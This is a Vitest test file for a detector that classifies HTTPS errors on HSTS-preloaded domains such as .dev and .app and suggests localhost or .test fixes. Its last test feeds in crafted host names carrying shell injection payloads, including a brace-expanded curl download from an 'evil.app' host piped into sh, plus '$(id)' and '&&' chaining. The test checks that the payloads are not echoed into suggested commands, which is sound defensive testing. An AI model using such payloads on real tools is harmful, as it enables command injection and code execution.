import { describe, expect, it } from 'vitest';
import { kindOf } from '@/lib/kinds/detect';
import { explain, testName } from '@/lib/kinds/forced-https/explain';
import { preloadedTld } from '@/lib/kinds/forced-https/kind';

describe('forced-https', () => {
  it.each([
    ['https://myapp.dev:5173/', 'net::ERR_SSL_PROTOCOL_ERROR', 'forced-https'],
    ['https://shop.example.app/', 'Error code 2153394151', 'forced-https'],
    ['https://MyApp.DEV.:3000/', 'net::ERR_SSL_PROTOCOL_ERROR', 'forced-https'],
    // Not preloaded: a local name over https:// is tls-to-http, a remote one nothing of ours.
    ['https://localhost:5173/', 'net::ERR_SSL_PROTOCOL_ERROR', 'tls-to-http'],
    ['https://myapp.test:5173/', 'net::ERR_SSL_PROTOCOL_ERROR', null],
    ['https://devapp.com/', 'net::ERR_SSL_PROTOCOL_ERROR', null],
    // Another error on a .dev name is not this one.
    ['https://myapp.dev:5173/', 'net::ERR_CONNECTION_REFUSED', null],
  ])('%s with %s is %s', (url, code, kind) => {
    expect(kindOf(new URL(url), code)).toBe(kind);
  });

  it.each([
    ['myapp.dev', 'dev'],
    ['a.b.page', 'page'],
    ['dev', null],
    ['myapp.devx', null],
    ['dev.example.com', null],
  ])('the preloaded TLD of %s is %s', (host, tld) => {
    expect(preloadedTld(host)).toBe(tld);
  });

  it('offers the same path on http://localhost, the port kept, and a .test name for the hosts file', () => {
    const input = { url: 'https://myapp.dev:5173/app?x=1', host: 'myapp.dev', port: 5173, scheme: 'https:' };
    expect(explain.fix?.(input)).toEqual({
      label: { key: 'kind.forcedHttps.fix' },
      url: 'http://localhost:5173/app?x=1',
      testId: 'use-localhost',
    });
    expect(explain.summary(input)).toEqual({ key: 'kind.forcedHttps.summary', args: ['myapp.dev', '.dev'] });
    expect(explain.checklist?.(input)[0]).toEqual({ key: 'kind.forcedHttps.rename', args: ['myapp.test'] });
    expect(testName('api.shop.app')).toBe('api.shop.test');
  });

  // A crafted host could inject commands: "mkcert <host>" is a shell line; the hosts-file example a line in a
  // system file.
  it.each([
    ['myapp.dev', 'myapp.test', 'myapp.dev'],
    ['api.shop.app', 'api.shop.test', 'api.shop.app'],
    ['a;{curl,-o,x,e.evil.app};{sh,x};b.evil.app', 'myapp.test', { key: 'kind.forcedHttps.anyHost' }],
    ['$(id).dev', 'myapp.test', { key: 'kind.forcedHttps.anyHost' }],
    ['a&&b.dev', 'myapp.test', { key: 'kind.forcedHttps.anyHost' }],
  ])('the host %j is printed as %j and %j', (host, renamed, mkcert) => {
    const input = { url: 'https://x.dev/', host, port: 443, scheme: 'https:' };
    expect(explain.checklist?.(input).slice(0, 2)).toEqual([
      { key: 'kind.forcedHttps.rename', args: [renamed] },
      { key: 'kind.forcedHttps.serveHttps', args: [mkcert] },
    ]);
  });
});
